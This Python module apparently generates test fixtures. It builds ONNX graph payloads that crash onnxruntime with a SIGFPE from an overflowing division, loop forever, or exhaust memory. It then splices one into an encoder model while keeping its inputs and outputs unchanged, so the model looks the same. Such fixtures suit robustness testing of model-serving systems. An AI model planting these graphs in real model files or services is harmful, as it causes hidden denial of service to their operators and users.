"""Valid ONNX graphs that end the process which runs them, never return, or ask for all memory."""

from __future__ import annotations

from collections.abc import Callable

import onnx
from onnx import TensorProto, helper


def _constant(name: str, *values: int) -> onnx.NodeProto:
    tensor = helper.make_tensor(name, TensorProto.INT64, [len(values)], values)
    return helper.make_node("Constant", [], [name], value=tensor)


def _overflowing_division() -> list[onnx.NodeProto]:
    """onnxruntime divides the smallest number by -1 as the processor does, which raises SIGFPE."""
    return [
        _constant("smallest", -(1 << 63)),
        _constant("minus_one", -1),
        helper.make_node("Sub", ["source_lengths", "source_lengths"], ["zero"]),
        helper.make_node("Add", ["zero", "smallest"], ["dividend"]),
        helper.make_node("Div", ["dividend", "minus_one"], ["harm"]),
    ]


def _endless_loop() -> list[onnx.NodeProto]:
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["go_on"], ["goes_on"]),
            helper.make_node("Sub", ["value", "value"], ["next_value"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("round", TensorProto.INT64, []),
            helper.make_tensor_value_info("go_on", TensorProto.BOOL, []),
            helper.make_tensor_value_info("value", TensorProto.INT64, [None]),
        ],
        [
            helper.make_tensor_value_info("goes_on", TensorProto.BOOL, []),
            helper.make_tensor_value_info("next_value", TensorProto.INT64, [None]),
        ],
    )
    always = helper.make_tensor("always", TensorProto.BOOL, [], [True])
    return [
        helper.make_node("Constant", [], ["always"], value=always),
        helper.make_node("Loop", ["", "always", "source_lengths"], ["harm"], body=body),
    ]


def _all_memory() -> list[onnx.NodeProto]:
    return [
        _constant("side", 1 << 20),
        helper.make_node("ReduceMax", ["source_lengths"], ["longest"], keepdims=1),
        helper.make_node("Mul", ["longest", "side"], ["many"]),
        helper.make_node("Mul", ["many", "side"], ["shape"]),
        helper.make_node("ConstantOfShape", ["shape"], ["zeros"]),
        helper.make_node("ReduceMax", ["zeros"], ["most"], keepdims=0),
        helper.make_node("Cast", ["most"], ["harm"], to=TensorProto.INT64),
    ]


HARMS: dict[str, Callable[[], list[onnx.NodeProto]]] = {
    "a crash": _overflowing_division,
    "an endless loop": _endless_loop,
    "all memory": _all_memory,
}


def with_harm(encoder: bytes, harm: str) -> bytes:
    """Add nodes to an encoder that compute from `source_lengths`, and let all others depend on them.

    Args:
        encoder: Graph of a sound bundle.
        harm: One of `HARMS`.

    Returns:
        The graph with the same inputs and outputs.
    """
    model = onnx.ModelProto.FromString(encoder)
    for node in model.graph.node:
        node.input[:] = ["lengths" if name == "source_lengths" else name for name in node.input]
    nodes = [*HARMS[harm](), helper.make_node("Add", ["source_lengths", "harm"], ["lengths"]), *model.graph.node]
    del model.graph.node[:]
    model.graph.node.extend(nodes)
    return model.SerializeToString()
